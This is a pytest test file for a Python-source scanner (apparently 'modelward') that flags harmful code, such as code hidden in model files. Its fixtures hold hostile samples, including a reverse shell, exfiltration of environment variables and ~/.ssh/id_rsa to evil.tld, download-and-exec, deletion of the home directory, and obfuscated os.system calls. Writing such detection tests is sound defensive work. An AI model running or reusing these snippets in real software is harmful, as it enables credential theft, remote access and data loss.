from __future__ import annotations

import contextlib
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelward.core.errors import InputError, LimitExceeded
from modelward.formats.python_source import MAX_BYTES, decode, harm_in, judge_source, parse

MODEL = """
import torch.nn as nn
class Model(nn.Module):
    def forward(self, x):
        {}
        return x
"""
REVERSE_SHELL = """
import socket, subprocess, os
def f():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.9", 4242))
    os.dup2(s.fileno(), 0)
    subprocess.call(["/bin/sh", "-i"])
"""


def harms(text: str) -> list[str]:
    return [use.harm for use in judge_source(text) if use.harm]


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.system('id')",
        "__import__('os').system('touch /tmp/pwned')",
        "from os import system as s\ns('whoami')",
        "import os\nrun = os.system\nrun('id')",
        "import importlib\nimportlib.import_module('subprocess').run(['id'])",
        "getattr(__import__('os'), 'sys' + 'tem')('id')",
        "getattr(__import__(''.join(chr(c) for c in [111, 115])), 'metsys'[::-1])('id')",
        "import sys\nsys.modules['builtins'].__dict__['ex' + 'ec']('x = 1')",
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import zlib, base64 as b\n_ = lambda x: zlib.decompress(b.b64decode(x[::-1]))\nexec(_(b'abc'))",
        "import marshal\nexec(marshal.loads(b'abc'))",
        "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
        "import urllib.request as u\nexec(u.urlopen('http://evil.tld/x').read())",
        'e = eval\ne(\'__import__("os").system("id")\')',
        "().__class__.__base__.__subclasses__()",
        "import requests, os\ndef f():\n    requests.post('https://evil.tld', json=dict(os.environ))",
        "import urllib.request, os\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "urllib.request.urlopen('http://evil.tld/?' + d)",
        "import threading, os\ndef w():\n    os.popen('id')\nthreading.Thread(target=w).start()",
        "import os\nclass A:\n    os.system('id')",
        "import os\ndef f(x=os.system('id')): pass",
        "import os\n@os.system('id')\ndef f(): pass",
        "import os\ntry:\n    pass\nfinally:\n    os.system('id')",
        "import os\n[os.system(c) for c in ['id']]",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "import operator, os\noperator.methodcaller('system', 'id')(os)",
        "import operator, os\noperator.itemgetter('system')(os.__dict__)('id')",
        "import operator, os\noperator.attrgetter('getcwd', 'system')(os)[1]('id')",
        "import functools, os\nfunctools.partial(os.system, 'id')()",
        "from subprocess import *\nrun(['id'])",
        "[__import__][0]('os').system('id')",
        "import os\n{'a': os.system}['a']('id')",
        "import os\nos.system.__call__('id')",
        "import os\nobject.__getattribute__(os, 'system')('id')",
        "import os\ntype(os).__getattribute__(os, 'system')('id')",
        "__import__('o' + 's').__getattribute__('sys' + 'tem')('id')",
        "import os\nvars(os).get('system')('id')",
        "import os\ndict.get(os.__dict__, 'sys' + 'tem')('id')",
        "globals().get('__builtins__').get('ev' + 'al')('1 + 1')",
        "import importlib\nlist(map(lambda load: load('os').system('id'), [importlib.import_module]))",
        "import os\nf = os.system if True else 0\nf('id')",
        "import os\nclass A: pass\na = A()\na.f = os.system\na.f('id')",
        "import os\nlist(map(os.system, ['id']))",
        "import os\nx: os.system('id') = 1",
        "import os\ndef f(x: os.system('id')): pass",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os, atexit\natexit.register(os.system, 'id')",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "get_ipython().run_cell_magic('bash', '', 'id')",
        "import os\ndef run(c):\n    return os.system(c)\nrun('whoami')",
        "from pathlib import Path\nPath('/tmp/pwned').write_text('x')",
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
        "import requests\nrequests.get('https://webhook.site/x')",
        MODEL.format("__import__('os').system('id')"),
        MODEL.format("self.go()")
        + "    def go(self):\n        import subprocess\n        subprocess.run('id', shell=True)",
        "import os\ndef _load_pyfunc(path):\n    os.system('id')",
        REVERSE_SHELL,
    ],
)
def test_programs_that_harm(text: str) -> None:
    assert harms(text)


@pytest.mark.parametrize(
    "text",
    [
        "import subprocess\ndef f():\n    subprocess.run(['make'])\n    subprocess.run(x, shell=True)",
        "import os\nif __name__ == '__main__':\n    os.system('id')",
        "import subprocess\nversion = subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, 'setup.py', 'build'])",
        "exec(open('version.py').read())",
        "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))",
        "import os, requests\ndef f():\n    requests.post(URL, headers={'Auth': os.environ['TOKEN']})",
        "import re\npattern = re.compile('os.system')",
        'text = \'__import__("os").system("id")\'',
        "import os\npath = os.path.join('a', 'b')\nos.makedirs('cache', exist_ok=True)",
        "import base64\ndata = base64.b64decode('cHJpbnQoMSk=')",
        "class Plugin:\n    known = {c.__name__: c for c in object.__subclasses__()}",
        "import socket\nname = socket.gethostname()",
        "from collections import namedtuple\nP = namedtuple('P', 'x y')",
        MODEL.format("x = self.linear(x)"),
    ],
)
def test_near_miss_ordinary_programs(text: str) -> None:
    assert list(judge_source(text)) == []


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("import os\nos.system('pip install evil')", "installs packages"),
        ("import subprocess\nsubprocess.run(command)", "runs a command that cannot be told"),
        ("import torch\ntorch.hub.load('a/b', 'c')", "runs code from elsewhere through torch.hub.load"),
        ("import requests\nrequests.get('https://host.tld/x')", "connects to https://host.tld/x"),
    ],
)
def test_acts_on_import_that_cannot_be_judged(text: str, what: str) -> None:
    (use,) = judge_source(text)
    assert (use.what, use.harm, use.when, use.line) == (what, None, "when it is imported", 2)


@pytest.mark.parametrize("text", ["print 'x'", "def f(:", "x = \x00", "if"])
def test_what_is_not_python_3_is_an_error(text: str) -> None:
    with pytest.raises(InputError):
        parse(text)


@pytest.mark.parametrize(
    "text",
    ["x = " + "1 + " * 50_000 + "1", "x = " + "-" * 20_000 + "1", "x = " + "(" * 5000, "a" + ".b" * 50_000],
)
def test_deep_code_is_a_bound_and_no_crash(text: str) -> None:
    start = time.process_time()
    with contextlib.suppress(InputError):
        list(judge_source(text))
    assert time.process_time() - start < 10


def test_large_code_is_a_bound() -> None:
    with pytest.raises(LimitExceeded):
        parse("#" * (MAX_BYTES + 1))


def test_functions_that_call_one_another_end() -> None:
    text = (
        "".join(f"def f{i}():\n" + "".join(f"    f{j}()\n" for j in range(20)) for i in range(20)) + "f0()\n"
    )
    assert list(judge_source(text)) == []


def test_codec_that_hides_what_it_says() -> None:
    with pytest.raises(InputError, match="rot13"):
        decode(b"# -*- coding: rot13 -*-\nvzcbeg bf\n")
    assert decode("# coding: latin-1\nx = 'é'".encode("latin-1")).endswith("'é'")
    assert decode(b"\xff") == "\\xff"


def test_code_in_text_in_text() -> None:
    inner = "import os; os.system('id')"
    assert harm_in(f"exec({f'exec({inner!r})'!r})")
    assert harm_in("not python (") is None


@settings(max_examples=100, deadline=None)
@given(st.integers(0, len(REVERSE_SHELL)), st.text(max_size=6))
def test_damaged_programs_raise_nothing_else(at: int, extra: str) -> None:
    with contextlib.suppress(InputError):
        list(judge_source(REVERSE_SHELL[:at] + extra + REVERSE_SHELL[at:]))


@pytest.mark.parametrize(
    "text",
    [
        "import os\nnamespace = os.__dict__\nnamespace['runner'] = os.system\n",
        "import os\nglobals().__setitem__('runner', os.system)\n",
        "import runpy\nrunpy.run_path('payload.bin')\n",
        "import ctypes\nctypes.CDLL('./payload.bin')\n",
    ],
)
def test_what_runs_where_nobody_sees_is_noticed(text: str) -> None:
    assert [use.harm for use in judge_source(text)] == [None]


@pytest.mark.parametrize(
    "text",
    [
        "import subprocess\ndef f(run=subprocess.run):\n    return isinstance(run, object)\n",
        "import subprocess, functools\nrun = functools.partial(subprocess.run, check=True)\n",
        "import ctypes\nctypes.CDLL('libc.so.6')\n",
        "import requests\nLOADERS = {'http': requests.get}\nget = LOADERS['http']\n",
        "def main():\n    import runpy\n    runpy.run_path('x.py')\n",
        "import os\nos.environ.get('HOME')\nx = {'a': 1}.get('a')\n",
    ],
)
def test_ordinary_ways_of_handing_functions_on(text: str) -> None:
    assert list(judge_source(text)) == []


def test_a_long_function_called_often_is_a_bound() -> None:
    text = "def f(x):\n" + "    y = x[0] + x[1] * 2\n" * 3000 + "".join(f"f({i})\n" for i in range(500))
    start = time.process_time()
    found = list(judge_source(f"{text}def run(g):\n    g('id')\nimport os\nrun(os.system)\n"))
    assert time.process_time() - start < 8
    assert [use.what for use in found] == ["hands on os.system, which cannot be followed"]


def test_functions_of_code_that_serves_a_model_are_called() -> None:
    text = "import os\ndef transform(data):\n    return os.system('echo owned')\n"
    assert [use.harm for use in judge_source(text, served=True)] == ["runs a command"]
    assert list(judge_source(text)) == []


def test_near_miss_a_tool_that_is_asked_for_its_version_on_import() -> None:
    text = "import subprocess\nversion = subprocess.check_output(['xcodebuild', '-version'])\n"
    assert [use.harm for use in judge_source(text)] == [None]


def test_a_loader_that_is_swapped_before_it_is_called() -> None:
    text = """
from importlib import import_module
load = len
def handle(data, context):
    def set_loader():
        global load
        load = import_module
    set_loader()
    return load("os").system("id")
"""
    assert [(use.what, use.harm) for use in judge_source(text, served=True)] == [
        ("runs a command, or something else named system", None)
    ]


def test_near_miss_the_name_of_the_system() -> None:
    assert list(judge_source("import platform\nname = platform.system()\n", served=True)) == []
